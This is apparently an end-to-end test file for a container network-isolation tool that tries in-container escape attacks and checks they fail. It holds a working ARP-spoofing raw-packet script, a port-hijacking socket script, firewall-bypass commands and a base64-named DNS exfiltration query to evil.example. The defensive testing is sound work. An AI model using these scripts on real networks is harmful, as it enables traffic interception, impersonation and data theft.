package e2e

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"

	"github.com/vishvananda/netns"
)

// Row 46: a network namespace that root makes inside the container is captured
// where the container routes for it, and has no way where it goes around that.
func TestANamespaceInsideIsCapturedOrHasNoWay(t *testing.T) {
	b := newBesieged(t, "--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined",
		"--sysctl", "net.ipv4.ip_forward=1", "--sysctl", "net.ipv6.conf.all.forwarding=1", "--sysctl", "net.ipv6.conf.default.disable_ipv6=0")
	b.o.addName("good.example", "198.51.100.10")
	hello(b.o, "198.51.100.10:80")
	own := b.settings(b.box)
	bits := run(t, "docker", "exec", b.box.Name, "sh", "-c", "ip -4 -o addr show dev eth0 | sed 's,.*/\\([0-9]*\\) .*,\\1,'")
	shell := func(line string) {
		t.Helper()
		if out, ok := b.box.sh("set -e\n" + line); !ok {
			t.Fatalf("%s: %s", line, out)
		}
	}
	inner := func(name string) string { return "exec nsenter --net=/run/netns/" + name + ` "$@"` }
	routed := func(name, port, gateway string) string {
		return fmt.Sprintf(`ip netns add %[1]s; ip link add %[2]s type veth peer name eth0 netns %[1]s; ip link set %[2]s up
			ip addr add 172.28.0.1/24 dev %[3]s; ip link set %[3]s up; ip -6 addr add fd00:28::1/64 dev %[3]s nodad
			ip -n %[1]s addr add 172.28.0.2/24 dev eth0; ip -n %[1]s link set eth0 up; ip -n %[1]s link set lo up; ip -n %[1]s route add default via 172.28.0.1
			ip -n %[1]s -6 addr add fd00:28::2/64 dev eth0 nodad; ip -n %[1]s -6 route add default via fd00:28::1`, name, port, gateway)
	}
	const translate = "nft 'add table inet out; add chain inet out post { type nat hook postrouting priority 100; }; add rule inet out post oifname eth0 masquerade'\n"
	// The same hardware address and addresses as the container's own would be
	// let in; these are another's.
	const bridged = `ip netns add bridged; ip link add in1 type veth peer name eth0 netns bridged; ip link set in1 up
		ip link add br1 type bridge; ip link set eth0 master br1; ip link set in1 master br1; ip link set br1 up`
	address := func(name, ip string) string {
		return fmt.Sprintf("ip -n %[1]s addr add %[2]s dev eth0; ip -n %[1]s link set eth0 up; ip -n %[1]s link set lo up; ip -n %[1]s route replace default via %[3]s", name, ip, b.gateway)
	}
	bits = strings.TrimSpace(bits)

	// Without Weir the routed one gets out, or the silence below means nothing.
	shell(translate + routed("free", "in0", "in0"))
	if out := b.attack(inner("free")); !strings.Contains(out, "ANSWER tcp "+canary4) {
		t.Fatalf("before the attach: %s", out)
	}
	shell("ip link del in0; ip netns del free; nft delete table inet out")
	b.w.run("attach", b.box.Name, "--allow", "good.example:80")
	b.attack("true") // packets of the connections before may still be on their way
	for _, seen := range b.seen {
		seen()
	}
	b.o.asks()
	b.onGateway.Store(0)

	before := map[int64]bool{}
	for _, e := range b.w.events(b.box.Name) {
		before[e.ID] = true
	}
	// A container in the container is behind a bridge. It has the rules of the outer one.
	shell("ip link add br0 type bridge\n" + routed("nested", "in0", "br0") + "\nip link set in0 master br0")
	b.silent("nested", b.attack(inner("nested")))
	for _, canary := range []string{canary4, canary6} {
		b.w.waitEvent(b.box.Name, canary+" from inside", func(e Event) bool {
			return !before[e.ID] && e.Type == "connect" && e.Verdict == "deny" && e.Address == canary && e.Port == 80 && e.Reason != ""
		})
	}
	in := "nsenter --net=/run/netns/nested "
	if out, ok := b.box.sh(in + "dig +short @8.8.8.8 good.example"); !ok || !strings.Contains(out, "198.51.100.10") {
		t.Errorf("the shim, from inside: %s", out)
	}
	if out, ok := b.box.sh(in + "curl -sS -m 5 --resolve good.example:80:198.51.100.10 http://good.example/"); !ok || !strings.Contains(out, "hello good.example") {
		t.Errorf("what is allowed, from inside: %s", out)
	}
	if asked := b.o.asks(); slices.ContainsFunc(asked, func(n string) bool { return n != "good.example." }) {
		t.Errorf("asked upstream: %q", asked)
	}
	if out, _ := b.box.sh(in + "dig +tries=1 +time=5 @8.8.8.8 c2VjcmV0.evil.example"); !strings.Contains(out, "NXDOMAIN") {
		t.Errorf("a denied name, from inside: %s", out)
	}
	b.w.waitEvent(b.box.Name, "the denied name", func(e Event) bool {
		return e.Type == "dns" && e.Verdict == "deny" && e.Host == "c2vjcmv0.evil.example"
	})
	b.silent("names", "")

	b.silent("nested, translated", b.attack(translate+"nft delete table inet weir; "+inner("nested")))
	// Where nothing tells that a veth leads to a container inside, nothing comes through it.
	shell("ip link del in0; ip netns del nested; ip link del br0\n" + routed("routed", "in0", "in0"))
	b.silent("routed", b.attack(inner("routed")))
	shell("ip netns del routed")
	// A user's own namespace, which has lo only.
	if out, ok := b.box.sh("setpriv --reuid 1000 --regid 1000 --clear-groups unshare -Urn curl -sS -m 3 http://" + canary4 + "/"); ok {
		t.Errorf("a user's own namespace: %s", out)
	}
	b.silent("a user's own namespace", "")
	// The interface itself in another namespace, where no ruleset is: last, because nothing works afterwards.
	shell("ip netns add child; ip link add link eth0 name mv0 type macvlan mode bridge; ip link set mv0 netns child name eth0")
	shell(address("child", nextAddress(b.gateway)+"/"+bits))
	b.silent("a macvlan in a namespace", b.attack(inner("child")))
	shell("ip -n child link del eth0; ip netns del child")
	shell(bridged + "\n" + address("bridged", nextAddress(b.gateway)+"/"+bits))
	b.silent("bridged", b.attack(inner("bridged")))
	shell("ip netns add moved; ip link set eth0 nomaster; ip link set eth0 netns moved")
	shell(address("moved", own.IPAddress+"/"+bits))
	b.silent("the interface moved", b.attack(inner("moved")))
}

// thief binds beside what listens on the ports it is told, in every way that a
// program may ask for, and says where it could.
const thief = `
import sys
for port in map(int, sys.argv[1:]):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for family, host in ((2, "0.0.0.0"), (2, "127.0.0.1"), (2, "198.51.100.66"), (2, socket.gethostbyname(socket.gethostname())), (10, "::"), (10, "::1")):
            for options in ((), ((1, 2),), ((1, 15),), ((1, 2), (1, 15))):  # SO_REUSEADDR, SO_REUSEPORT
                s = socket.socket(family, kind); s.settimeout(0.01)
                for level, o in options: s.setsockopt(level, o, 1)
                if host.startswith("198"): s.setsockopt(0, 15, 1)  # IP_FREEBIND
                try:
                    s.bind((host, port))
                    if kind == socket.SOCK_STREAM: s.listen()
                    print("BOUND", port, kind, host, options)
                except OSError as e:
                    if e.errno != 98: print("FAILED", port, host, e)
`

// listeners are the ports that the daemon listens on in the box: of each
// protocol those that programs of the box do not have.
func (b *Box) listeners() (tcp, udp []string) {
	b.t.Helper()
	for line := range strings.Lines(b.nsenter("ss", "-lntupH")) {
		f := strings.Fields(line)
		if len(f) < 5 || !strings.Contains(line, `"weir"`) {
			continue
		}
		_, port, err := net.SplitHostPort(f[4])
		if err != nil {
			b.t.Fatalf("%v in %s", err, line)
		}
		if f[0] == "tcp" {
			tcp = append(tcp, port)
		} else {
			udp = append(udp, port)
		}
	}
	return tcp, udp
}

// Row 49: the daemon's ports in a container are its own.
func TestNobodySharesAListenersPort(t *testing.T) {
	o := newOutside(t)
	hello(o, "198.51.100.10:80")
	seen := o.watch(canary4)
	w := startWeir(t, "")
	box := newBox(t, "--cap-add", "NET_ADMIN", "--sysctl", "net.ipv6.conf.all.disable_ipv6=0")
	w.run("attach", box.Name, "--allow", "198.51.100.10")
	tcp, udp := box.listeners()
	if len(tcp) < 2 || len(udp) < 1 {
		t.Fatalf("listeners: tcp %v, udp %v", tcp, udp)
	}
	both := func(kind string, ports []string) {
		t.Helper()
		// Each port for its own protocol only: the other's may be free.
		program := strings.Replace(thief, "(socket.SOCK_STREAM, socket.SOCK_DGRAM)", "(socket."+kind+",)", 1)
		out, ok := box.exec(append([]string{"python3", "-c", "import socket\n" + program}, ports...)...)
		if !ok || out != "" {
			t.Errorf("%s %v: %s", kind, ports, out)
		}
		// The same program gets a port that nobody has.
		if out, ok := box.exec("python3", "-c", "import socket\n"+program, "99"); !ok || !strings.Contains(out, "BOUND") {
			t.Errorf("%s, a free port: %s", kind, out)
		}
	}
	both("SOCK_STREAM", tcp)
	both("SOCK_DGRAM", udp)
	for i := range 20 {
		if out, ok := box.curl("http://198.51.100.10/"); !ok || !strings.Contains(out, "hello") {
			t.Errorf("connection %d: %s", i, out)
		}
	}
	if out, ok := box.curl("http://" + canary4 + "/"); ok {
		t.Errorf("the canary: %s", out)
	}
	w.waitEvent(box.Name, "the canary", func(e Event) bool {
		return e.Type == "connect" && e.Verdict == "deny" && e.Address == canary4
	})
	if packets := seen(); len(packets) > 0 {
		t.Errorf("%d packets reached the canary", len(packets))
	}
}

// Row 50: programs that have ports already, for others to share too, keep them
// and get nothing of what is redirected. When they have all, the attach fails,
// says so, and leaves nothing.
func TestPortsThatAreTakenBeforeTheAttach(t *testing.T) {
	o := newOutside(t)
	o.addName("good.example", "198.51.100.10")
	hello(o, "198.51.100.10:80")
	hello(o, canary4+":80")
	w := startWeir(t, "")
	// In two containers: connections of the past keep ports as well.
	sysctl := []string{"--sysctl", "net.ipv4.ip_local_port_range=40000 40059"}
	box, full := newBox(t, sysctl...), newBox(t, sysctl...)
	take := func(box *Box, from, to int) (release func()) {
		t.Helper()
		name := fmt.Sprintf("taken%d", from)
		run(t, "docker", "exec", "-d", box.Name, "python3", "-c", `
import os, select, socket, sys
keep = {}
for port in range(int(sys.argv[1]), int(sys.argv[2])):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET6, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(("::", port))
        if kind == socket.SOCK_STREAM: s.listen()
        keep[s.fileno()] = s
open("/tmp/"+sys.argv[3], "w").write(str(os.getpid()))
while True:
    for s in select.select(list(keep.values()), [], [])[0]:
        open("/tmp/stolen", "a").write("%s\n" % s); s.recv(9) if s.type == socket.SOCK_DGRAM else s.accept()
`, fmt.Sprint(from), fmt.Sprint(to), name)
		eventually(t, "the ports are taken", func() bool { _, ok := box.sh("test -s /tmp/" + name); return ok })
		return func() {
			box.sh("kill $(cat /tmp/" + name + ")")
			eventually(t, "the ports are free", func() bool {
				return !strings.Contains(box.nsenter("ss", "-lntH"), fmt.Sprintf(":%d ", from))
			})
		}
	}
	seen := o.watch(canary4)
	check := func(box *Box, when string) {
		t.Helper()
		if out, ok := box.curl("http://good.example/"); !ok || !strings.Contains(out, "hello good.example") {
			t.Errorf("%s: what is allowed: %s", when, out)
		}
		if out, ok := box.curl("http://" + canary4 + "/"); ok {
			t.Errorf("%s: the canary: %s", when, out)
		}
		w.waitEvent(box.Name, "the canary, "+when, func(e Event) bool {
			return e.Type == "connect" && e.Verdict == "deny" && e.Address == canary4
		})
		if packets := seen(); len(packets) > 0 {
			t.Errorf("%s: %d packets reached the canary", when, len(packets))
		}
		if out, ok := box.sh("cat /tmp/stolen"); ok {
			t.Errorf("%s: a program of the container got what was redirected: %s", when, out)
		}
	}
	take(box, 40000, 40030)
	w.run("attach", box.Name, "--allow", "good.example:80")
	tcp, udp := box.listeners()
	for _, port := range append(tcp, udp...) {
		if port < "40030" || port > "40059" {
			t.Errorf("a listener on port %s", port)
		}
	}
	check(box, "with some taken")

	release := take(full, 40000, 40060)
	before := full.netState()
	out, code := w.try("attach", full.Name, "--allow", "good.example:80")
	if code != 1 || !strings.Contains(out, "listen") || !strings.Contains(out, "address already in use") {
		t.Errorf("with no port free: exit %d: %s", code, out)
	}
	if after := full.netState(); after != before {
		t.Errorf("a failed attach leaves\n%s\nwas\n%s", after, before)
	}
	if tables := run(t, "nft", "list", "tables"); strings.Contains(tables, full.ID[:12]) {
		t.Errorf("a failed attach leaves tables on the host: %s", tables)
	}
	if a, sessions := w.attached(full.Name), w.run("session", "list"); a != nil || strings.Contains(sessions, full.Name) {
		t.Errorf("a failed attach leaves %+v, %s", a, sessions)
	}
	release()
	w.run("attach", full.Name, "--allow", "good.example:80")
	check(full, "with all free again")
}

// spoof speaks for others to a neighbour, to the host and to everybody, and
// sends words to groups. Usage: GATEWAY NEIGHBOUR NEIGHBOURMAC GATEWAYMAC OWN.
const spoof = `
import socket, struct, sys
gateway, neighbour, near, host, own = sys.argv[1:6]
near, host = (bytes.fromhex(m.replace(":", "")) for m in (near, host))
everybody, forged, word = b"\xff" * 6, bytes.fromhex("020000000066"), b"CANARY" * 4
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); raw.bind(("eth0", 0)); mine = raw.getsockname()[4]
def send(to, kind, body, source=mine, bypass=0):
    raw.setsockopt(263, 20, bypass); raw.send(to + source + struct.pack("!H", kind) + body)
for bypass in (0, 1):
    for claimed in (gateway, neighbour):
        for sender in (mine, forged):
            for to in (near, host, everybody):
                for op, asked in ((1, claimed), (2, claimed), (2, neighbour), (2, gateway), (1, neighbour), (1, gateway)):
                    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, op, sender, socket.inet_aton(claimed), to, socket.inet_aton(asked))
                    for source in (mine, sender): send(to, 0x806, arp, source, bypass)
    for to, kind in ((b"\x01\x80\xc2\0\0\x0e", 0x88cc), (b"\x01\x80\xc2\0\0\0", 0x27), (everybody, 0x88b5), (near, 0x88b5), (near, 0x8100), (everybody, 0x88e5)):
        send(to, kind, word, mine, bypass)
    for group in ("224.0.0.1", "224.0.0.251", "239.1.2.3", "255.255.255.255"):
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(word), 1, 0, 64, 17, 0, socket.inet_aton(own), socket.inet_aton(group))
        total = sum(struct.unpack("!10H", head)); total = (total & 0xffff) + (total >> 16)
        head = head[:10] + struct.pack("!H", ~total & 0xffff) + head[12:]
        mac = everybody if group.startswith("255") else b"\x01\0\x5e" + bytes([socket.inet_aton(group)[1] & 127]) + socket.inet_aton(group)[2:]
        for to in (mac, near): send(to, 0x800, head + struct.pack("!HHHH", 5353, 5353, 8 + len(word), 0) + word, mine, bypass)
for group in ("224.0.0.251", "239.255.255.250", "239.1.2.3", "255.255.255.255", own.rsplit(".", 2)[0] + ".255.255"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); s.setsockopt(0, 33, 8); s.sendto(word, (group, 5353))
    except OSError: pass
for group in ("ff02::1", "ff02::fb", "ff05::1:3", "ff0e::77"):
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(word, (group, 5353, 0, socket.if_nametoindex("eth0")))
    except OSError: pass
print("sent")
`

// Row 75: a container finds its neighbours, and speaks neither for them nor to
// everybody.
func TestNobodySpeaksForANeighbour(t *testing.T) {
	b := newBesieged(t)
	neighbour := b.neighbour
	own, next := b.settings(b.box), b.settings(neighbour)
	bridge := strings.Fields(run(t, "ip", "-o", "route", "get", own.IPAddress))[2]
	hardware := strings.TrimSpace(run(t, "cat", "/sys/class/net/"+bridge+"/address"))
	ns, err := netns.GetFromPath("/proc/" + neighbour.pid() + "/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ns.Close() })
	seen := sniff(t, ns, func(p []byte) bool {
		if bytes.Contains(p, []byte("CANARYCANARY")) {
			return true
		}
		if len(p) < 28 || !bytes.Equal(p[:6], []byte{0, 1, 8, 0, 6, 4}) {
			return false
		}
		sender, claimed := net.HardwareAddr(p[8:14]).String(), net.IP(p[14:18]).String()
		return sender == "02:00:00:00:00:66" || sender == own.MacAddress && claimed != own.IPAddress
	})
	attack := func() {
		t.Helper()
		out, ok := b.box.exec("python3", "-c", spoof, b.gateway, next.IPAddress, next.MacAddress, hardware, own.IPAddress)
		if !ok || !strings.Contains(out, "sent") {
			t.Fatalf("spoof: %s", out)
		}
	}
	// What the neighbour takes the gateway to be, and the host the neighbour.
	believed := func() string {
		return neighbour.nsenter("ip", "neigh", "show", b.gateway) + run(t, "ip", "neigh", "show", next.IPAddress, "dev", bridge)
	}
	meet := func() {
		t.Helper()
		// An entry goes when nobody needs it; the address comes from who has it.
		for range 3 {
			neighbour.exec("ping", "-c1", "-W2", b.gateway)
			try("ping", "-c1", "-W2", next.IPAddress)
		}
	}
	meet()
	eventually(t, "without Weir the neighbour or the host believes a lie", func() bool {
		attack()
		return strings.Contains(believed(), own.MacAddress) || strings.Contains(believed(), "02:00:00:00:00:66")
	})
	if packets := seen(); !slices.ContainsFunc(packets, func(p string) bool { return strings.Contains(p, hex.EncodeToString([]byte("CANARY"))) }) {
		t.Fatalf("without Weir the neighbour hears no word: %d packets", len(packets))
	}

	b.w.run("attach", b.box.Name, "--session", "s", "--allow", next.IPAddress+":8000")
	neighbour.nsenter("ip", "neigh", "flush", "all")
	run(t, "ip", "neigh", "flush", "dev", bridge)
	eventually(t, "the truth is known again", func() bool {
		meet()
		now := believed()
		return strings.Contains(now, hardware) && strings.Contains(now, next.MacAddress)
	})
	neighbour.serve(8000)
	seen()
	for _, before := range []string{"true", "nft flush ruleset"} {
		if out, ok := b.box.sh(before); !ok {
			t.Fatalf("%s: %s", before, out)
		}
		for range 3 {
			attack()
		}
		if now := believed(); strings.Contains(now, own.MacAddress) || strings.Contains(now, "00:66") || !strings.Contains(now, hardware) || !strings.Contains(now, next.MacAddress) {
			t.Errorf("after %s: believed is %s", before, now)
		}
		if packets := seen(); len(packets) > 0 {
			t.Errorf("after %s: %d packets reached the neighbour, the first: %s", before, len(packets), packets[0])
		}
	}
	// What is allowed, the neighbour included, is reached after all that.
	eventually(t, "the neighbour is reached by its rule", func() bool {
		return b.box.reaches("http://"+next.IPAddress+":8000/", "hello from "+neighbour.Name)
	})
}
